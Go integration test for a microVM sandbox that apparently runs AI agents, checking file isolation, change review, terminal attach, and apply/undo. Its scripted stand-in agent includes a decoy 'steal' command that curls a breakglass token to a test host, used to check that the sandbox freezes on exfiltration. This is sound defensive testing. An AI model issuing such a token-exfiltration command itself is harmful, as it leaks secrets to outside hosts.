//go:build amd64

package microvm

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	place "ringfence.dev/ringfence/internal/sandbox/microvm"
	"ringfence.dev/ringfence/test/work"
	"ringfence.dev/ringfence/test/world"
)

// agent is one that does what a person types. It serves a page meanwhile.
const agent = `echo new > made; python3 -m http.server 3000 --bind 127.0.0.1 >/dev/null 2>&1 &
	trap 'echo size $(stty size)' WINCH; trap 'echo hear""d' INT; echo rea""dy
	while :; do read x || continue; echo "got $x"
	case $x in
	steal) curl -sS -m 20 -d "a=$DEPLOY_BREAKGLASS_TOKEN" http://allowed.test/digest; echo tri""ed ;;
	end) kill %1; exit 7 ;;
	esac; done`

// TestDay is one machine in which everything happens that a session is for: a start takes long
// here. What needs an end of its own has its own machine.
func TestDay(t *testing.T) {
	f := newFixture(t)
	began := time.Now()
	p := f.Sit("run", "--keep", "--yes", "--rung", f.Rung, "--review", "--allow-host", world.Allowed, "--publish", "3000", "--", "sh", "-c", agent)
	p.Sees("ready")
	t.Log(booted(t, f, began))
	id := f.PS()[0].Session
	t.Cleanup(func() { f.Cmd("stop", "--time", "0s", id).Run() })
	looks(f, id)
	f.Beside(id)
	f.Connects(id)
	f.Serves()
	p = attends(f, id, p)
	freezes(f, id, p)
	p.Types("end\n")
	if s := p.Status(); s != 7 {
		t.Errorf("status %d", s)
	}
	f.Eventually("its end", func() bool { return len(f.PS()) == 0 })
	applies(f)
	if left := disks(t, f); len(left) > 0 {
		t.Errorf("%q is left", left)
	}
}

// booted tells how long the parts of a start took: what ringfence does before the machine starts,
// then what the session's state tells of it, and then the walls in the guest.
func booted(t *testing.T, f *work.Fixture, began time.Time) string {
	t.Helper()
	now := time.Now()
	all, _ := filepath.Glob(filepath.Join(f.State, "ringfence/sessions/*", place.BootName))
	if len(all) != 1 {
		t.Fatalf("the state has %q", all)
	}
	b, err := os.ReadFile(all[0])
	st, err2 := os.Stat(all[0])
	if err := errors.Join(err, err2); err != nil {
		t.Fatal(err)
	}
	var started int64
	if _, err := fmt.Sscanf(string(b), "started %d ms", &started); err != nil {
		t.Fatalf("%q: %v", b, err)
	}
	greeted := st.ModTime()
	return fmt.Sprintf("before it %d ms\n%sgreeting to first byte %d ms", greeted.Sub(began).Milliseconds()-started, b, now.Sub(greeted).Milliseconds())
}

// looks: what cannot be written is not, and what waits is seen while the agent runs.
func looks(f *work.Fixture, id string) {
	out, err := f.Cmd("exec", id, "--", "sh", "-c", "touch /usr/x /x /etc/x 2>/dev/null && echo written; cat made; ls /sys 2>/dev/null | wc -l").CombinedOutput()
	if string(out) != "new\n0\n" || err != nil {
		f.T.Errorf("inside: %q, %v", out, err)
	}
	if out, _ := f.Cmd("diff", id).CombinedOutput(); !strings.Contains(string(out), "waits made") {
		f.T.Errorf("diff:\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(f.Dir, "made")); err == nil {
		f.T.Error("a file reached the host before it was applied")
	}
}

// attends: a person works in the session, and another one takes it over.
func attends(f *work.Fixture, id string, p *work.Person) *work.Person {
	p.Types("first\n")
	p.Sees("got first")
	p = f.Sit("attach", id)
	p.Resize(41, 121)
	p.Types("\n")
	p.Sees("size 41 121")
	p.Types("\x03")
	p.Sees("heard")
	f.T.Logf("a key is echoed after %s, the median of ten", echo(p))
	return p
}

// echo is how long it takes until a key that was typed is on the screen.
func echo(p *work.Person) time.Duration {
	var took []time.Duration
	for n := range 10 {
		key := fmt.Sprintf("~%d", n)
		began := time.Now()
		p.Types(key)
		p.Sees(key)
		took = append(took, time.Since(began))
	}
	p.Types("\n")
	slices.Sort(took)
	return took[len(took)/2].Round(time.Millisecond)
}

// freezes: a decoy that is carried out freezes the machine with a person at it. Nothing of it
// arrives, and what the person lets go on goes on.
func freezes(f *work.Fixture, id string, p *work.Person) {
	p.Types("steal\n")
	p.Sees("is frozen")
	if s := f.PS(); len(s) != 1 || !s[0].Frozen {
		f.T.Errorf("ps says %+v", s)
	}
	if out, err := f.Cmd("thaw", id).CombinedOutput(); err != nil {
		f.T.Fatalf("thaw: %v\n%s", err, out)
	}
	p.Sees("tried")
}

// applies: what waited is the host's when the person says so, and until the person says otherwise.
func applies(f *work.Fixture) {
	out, err := f.Cmd("apply", "--yes").CombinedOutput()
	if b, rerr := os.ReadFile(filepath.Join(f.Dir, "made")); err != nil || rerr != nil || string(b) != "new\n" {
		f.T.Errorf("apply: %v, %v, %q\n%s", err, rerr, b, out)
	}
	out, err = f.Cmd("undo", "--yes").CombinedOutput()
	if _, serr := os.Stat(filepath.Join(f.Dir, "made")); err != nil || serr == nil {
		f.T.Errorf("undo: %v, %v\n%s", err, serr, out)
	}
}

// TestKilled: with the supervisor the machine ends.
func TestKilled(t *testing.T) {
	share(t, 0)
	work.Killed(newFixture(t))
}
